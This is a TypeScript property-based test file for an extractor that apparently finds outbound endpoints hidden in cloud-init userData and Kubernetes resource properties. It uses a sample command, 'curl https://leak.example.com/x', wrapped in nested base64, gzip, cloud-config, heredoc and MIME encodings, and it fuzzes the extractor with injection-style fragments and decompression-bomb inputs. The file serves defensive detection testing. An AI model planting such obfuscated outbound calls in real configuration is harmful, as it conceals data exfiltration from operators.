import { gzipSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Properties } from "../../graph/model.ts";
import { extract } from "./index.ts";
import { limits } from "./limits.ts";

const LEAK = "curl https://leak.example.com/x";

/** Ways to hide a text, and none of them may lose it. */
const hide = fc.constantFrom<(text: string) => string>(
  (text) => Buffer.from(text).toString("base64"),
  (text) => Buffer.from(text).toString("base64url"),
  (text) => gzipSync(text).toString("base64"),
  (text) =>
    gzipSync(text)
      .toString("base64")
      .replace(/(.{64})/g, "$1\n"),
  (text) => JSON.stringify({ value: text }),
  (text) => `#cloud-config\n${JSON.stringify({ write_files: [{ path: "/x", content: text }] })}\n`,
  (text) =>
    `#cloud-config\n${JSON.stringify({ write_files: [{ path: "/x", encoding: "b64", content: Buffer.from(text).toString("base64") }] })}\n`,
  (text) => `#!/bin/sh\ncat > /x <<'END_OF_FILE_${text.length}'\n${text}\nEND_OF_FILE_${text.length}\n`,
  (text) =>
    `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="=${text.length}="\n\n--=${text.length}=\nContent-Type: text/plain\nContent-Transfer-Encoding: base64\n\n${Buffer.from(text).toString("base64")}\n--=${text.length}=--\n`,
);

const hostile = fc.oneof(
  fc.string({ unit: "binary", maxLength: 300 }),
  fc
    .array(
      fc.constantFrom(
        ..."://@[]{}()<>$`'\"\\#%=:;,.\n\t -0xa\uE000|&",
        "https://",
        "$(",
        "${",
        "<<EOF\n",
        "#cloud-config\n",
        "data:;base64,",
        "\x1f\x8b",
        "- a: &a [*a]\n",
        "Content-Type: multipart/mixed; boundary=x\n\n--x\n",
      ),
      { maxLength: 120 },
    )
    .map((parts) => parts.join("")),
);

describe("hostile input", () => {
  test("never throws, and gives the same twice", () => {
    fc.assert(
      fc.property(
        fc.dictionary(fc.constantFrom("userData", "image", "host", "data", "x", "command"), hostile),
        (properties) => {
          const once = extract(properties, "kubernetes:core/v1:Secret");
          expect(extract(properties, "kubernetes:core/v1:Secret")).toEqual(once);
        },
      ),
      { numRuns: 300 },
    );
  });

  test("a leak is found through any four encodings in one another", () => {
    fc.assert(
      fc.property(fc.array(hide, { maxLength: 4 }), (ways) => {
        const text = ways.reduce((inner, way) => way(inner), LEAK);
        expect(extract({ userData: text }, "t").endpoints.map((e) => e.host)).toContain("leak.example.com");
      }),
      { numRuns: 200 },
    );
  });

  test("a packed text that is cut is never silence", () => {
    const whole = gzipSync(`#!/bin/sh\n${LEAK}\n`);
    fc.assert(
      fc.property(fc.integer({ min: 12, max: whole.length - 1 }), (length) => {
        const result = extract({ userData: whole.subarray(0, length).toString("base64") }, "t");
        expect(result.blind.length + result.endpoints.length).toBeGreaterThan(0);
      }),
      { numRuns: 40 },
    );
  });

  test.each([
    "://",
    "a=",
    "a=$a",
    "$(",
    "${",
    "`",
    "(",
    "[",
    "{",
    "<<E\n",
    "data:;base64,",
    "1.1.1.1.",
    "a@b:",
    "x\\\n",
    "- ",
    "'",
    '"',
    "a: ",
    "A=$A$A\n",
    "#include\n",
    "%",
    "\uE000.",
    "mailto:",
    "::",
  ])("128 KiB of %j is read to its end", (unit) => {
    const text = unit.repeat(Math.ceil(2 ** 17 / unit.length));
    const all: Properties[] = [{ x: text }, { userData: `#!/bin/sh\n${text}` }, { userData: `#cloud-config\n${text}` }];
    for (const properties of all) {
      const { endpoints, blind } = extract({ ...properties, last: "https://leak.example.com" }, "t");
      expect(endpoints.at(-1)?.host ?? blind.at(-1)?.why).toMatch(/leak\.example\.com|too-big/);
    }
  });

  test("what one resource unpacks to is bounded over all of its values", () => {
    const piece = (i: number) => gzipSync(Buffer.alloc(limits.decodedBytes / 4, `${i}`)).toString("base64");
    const { blind } = extract({ list: Array.from({ length: 6 }, (_, i) => piece(i)) }, "t");
    expect(blind.some((b) => b.why === "too-big")).toBe(true);
  });
});
